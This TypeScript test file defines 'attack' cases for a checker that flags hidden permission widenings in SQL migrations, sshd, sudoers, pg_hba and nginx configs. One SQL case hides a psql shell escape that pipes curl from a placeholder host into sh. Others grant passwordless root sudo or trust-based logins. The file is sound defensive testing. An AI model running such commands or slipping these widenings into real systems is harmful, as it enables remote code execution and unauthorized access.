import type { Case } from "../harness.ts";
import { casesAt, said } from "./build.ts";

const sql = casesAt("sql", "db/migrations/0042_more.sql", "attack: ");
const sshd = casesAt("host", "host/sshd_config", "attack: ");
const hba = casesAt("host", "db/pg_hba.conf", "attack: ");
const sudo = casesAt("sudo", "host/sudoers", "attack: ");
const nginx = casesAt("edge", "deploy/web/nginx.conf", "attack: ");
const guarded = (rules: string): string =>
  `server {\n  listen 443 ssl;\n  server_name a.example;\n  location / {\n${rules}  }\n}\n`;
const jail = "Match User bob\n  ForceCommand /usr/bin/jail\n  ChrootDirectory /jail\n";

/** Changes that once hid a widening behind what one line told. */
export const ATTACKS: readonly Case[] = [
  {
    ...sql(
      "a command of psql within a statement",
      null,
      "CREATE INDEX i ON t (a) \\! curl https://x.example | sh\n;\n",
    ),
    opaque: "sql/client",
  },
  {
    ...sql("a file that psql is to read", null, "REVOKE INSERT ON t FROM bob AS \\i /tmp/x\n;\n"),
    opaque: "sql/client",
  },
  sql(
    "columns are taken from who has the table",
    null,
    "GRANT SELECT ON users TO bob;\nREVOKE SELECT (id), TRUNCATE ON users FROM bob;\n",
    said("can", "widen", "users", "bob"),
    said("denied", "narrow", "users", "bob"),
  ),
  sql(
    "a role that is called PUBLIC",
    null,
    'GRANT SELECT ON users TO PUBLIC;\nREVOKE SELECT ON users FROM "PUBLIC";\n',
    said("can", "widen", "users", "PUBLIC"),
    said("denied", "narrow", "users", '"PUBLIC"'),
  ),
  sql(
    "an argument that is called security",
    null,
    "CREATE FUNCTION refund(security invoker) RETURNS void LANGUAGE sql SECURITY DEFINER AS 'select 1';\n",
    said("db-code", "widen"),
    said("elevates", "widen", "function", "refund"),
  ),
  sql(
    "what somebody else granted is taken away",
    null,
    "GRANT admin TO bob;\nREVOKE admin FROM bob GRANTED BY alice;\n",
    said("member-of", "widen", "admin", "bob"),
  ),
  {
    ...sql(
      "a statement that is taken back",
      null,
      "ALTER TABLE t DISABLE ROW LEVEL SECURITY;\nBEGIN;\nALTER TABLE t ENABLE ROW LEVEL SECURITY;\nROLLBACK;\n",
    ),
    opaque: "sql/rollback",
  },
  {
    ...sql(
      "a name that means another table by then",
      null,
      "GRANT SELECT ON users TO bob;\nSET search_path = other;\nREVOKE SELECT ON users FROM bob;\n",
    ),
    opaque: "sql/elsewhere",
  },
  sql(
    "a right on another routine of that name",
    null,
    "GRANT EXECUTE ON FUNCTION f(int) TO bob;\nREVOKE EXECUTE ON FUNCTION f(text) FROM bob;\n",
    said("can", "widen", "function f(int)", "bob"),
    said("denied", "narrow", "function f(text)", "bob"),
  ),
  sshd(
    "the first forced command counts, and / is no jail",
    jail,
    jail.replace("  Force", "  ForceCommand /bin/bash\n  ChrootDirectory /\n  Force"),
    said("edge-guard", "unknown", "a forced command"),
    said("edge-guard", "widen", "a root folder of its own"),
  ),
  sshd(
    "conditions in another order",
    "Match User a\n  X11Forwarding no\nMatch Group b\n  X11Forwarding no\n",
    "Match Group b\n  X11Forwarding no\nMatch User a\n  X11Forwarding no\n",
    said("setting", "unknown", "order of its conditions"),
  ),
  sudo(
    "no password as root, and another list for another user",
    "bob ALL = (root) ALL\nbob ALL = (www) ALL\n",
    "bob ALL = (root) NOPASSWD: ALL\nbob ALL = (www) ALL\n",
    said("setting", "widen", "what sudo asks"),
  ),
  sudo(
    "a refusal that a later entry undoes",
    "bob ALL = ALL, !/bin/sh\n",
    "bob ALL = !/bin/sh, ALL\n",
    said("denied", "unknown"),
  ),
  sudo(
    "an option that no table knows",
    "Defaults !use_pty\n",
    "Defaults use_pty, env_file=/home/bob/env\n",
    said("setting", "unknown", "settings", "sudo"),
  ),
  sudo(
    "another root folder",
    "bob ALL = /bin/x\n",
    "bob ALL = CHROOT=/home/bob /bin/x\n",
    said("setting", "unknown", "what sudo asks"),
  ),
  hba(
    "a wider line no longer decides first",
    "hostssl all all 0.0.0.0/0 scram-sha-256\nhost all all 10.0.0.0/8 trust\n",
    "host all all 10.0.0.0/8 trust\nhostssl all all 0.0.0.0/0 scram-sha-256\n",
    said("setting", "widen", "sign-in"),
  ),
  hba(
    "no certificate is asked for any more",
    "hostssl all all 0.0.0.0/0 scram-sha-256 clientcert=verify-full\n",
    "hostssl all all 0.0.0.0/0 scram-sha-256\n",
    said("setting", "widen"),
  ),
  hba(
    "another map of names",
    "hostssl all all 0.0.0.0/0 cert map=a\n",
    "hostssl all all 0.0.0.0/0 cert map=b\n",
    said("setting", "unknown", "sign-in"),
  ),
  nginx(
    "what stands below `deny all` lets nobody in",
    guarded("    allow 10.0.0.0/8;\n    deny all;\n"),
    guarded("    deny all;\n    allow 10.0.0.0/8;\n"),
    said("edge-guard", "narrow", "an address list"),
  ),
];
